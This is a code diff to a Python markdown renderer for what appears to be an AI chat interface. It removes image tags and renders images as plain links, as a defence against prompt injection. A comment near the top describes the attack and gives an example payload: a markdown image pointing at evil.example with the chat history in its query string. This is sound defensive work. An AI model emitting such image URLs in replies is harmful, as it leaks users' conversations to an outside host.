@@ -10,6 +10,7 @@ from functools import lru_cache
 
 import nh3
 from markdown_it import MarkdownIt
+from markdown_it.common.utils import escapeHtml
 from pygments import highlight
 from pygments.formatters import HtmlFormatter
 from pygments.lexers import get_lexer_by_name
@@ -17,13 +18,16 @@ from pygments.util import ClassNotFound
 
 _FORMATTER = HtmlFormatter(nowrap=True, classstyle=True)
 
+# No <img>: a reply is model output, and a prompt injection can make it
+# write ![](https://evil.example/?d=<the chat so far>), which the browser
+# would fetch with no click. Images become a plain link (`_image_as_link`);
+# the CSP's img-src is the second line of defence.
 _TAGS = {
     "p", "br", "hr", "h1", "h2", "h3", "h4", "h5", "h6", "strong", "em", "del", "s", "code", "pre",
-    "blockquote", "ul", "ol", "li", "a", "table", "thead", "tbody", "tr", "th", "td", "span", "div", "img",
+    "blockquote", "ul", "ol", "li", "a", "table", "thead", "tbody", "tr", "th", "td", "span", "div",
 }
 _ATTRIBUTES = {
     "a": {"href", "title"},
-    "img": {"src", "alt", "title"},
     "span": {"class"},
     "code": {"class"},
     "pre": {"class"},
@@ -44,13 +48,24 @@ def _highlight(code: str, lang: str, attrs) -> str:
     return highlight(code, lexer, _FORMATTER)
 
 
+def _image_as_link(self, tokens, idx, options, env) -> str:
+    """An image is shown as a link with its alt text ("image: …"), which
+    the reader may follow on purpose; nothing is fetched by itself."""
+    token = tokens[idx]
+    alt = self.renderInlineAsText(token.children or [], options, env) or "image"
+    src = escapeHtml(token.attrGet("src") or "")
+    return f'<a href="{src}" class="image-link">[image: {escapeHtml(alt)}]</a>'
+
+
 @lru_cache(maxsize=1)
 def _md() -> MarkdownIt:
     # html=False: raw HTML in a message is shown as text, not interpreted;
     # nh3 below is the second line of defence.
-    return MarkdownIt("commonmark", {"html": False, "linkify": False, "highlight": _highlight}).enable("table").enable(
+    md = MarkdownIt("commonmark", {"html": False, "linkify": False, "highlight": _highlight}).enable("table").enable(
         "strikethrough"
     )
+    md.add_render_rule("image", _image_as_link)
+    return md
 
 
 def render_markdown(text: str) -> str:
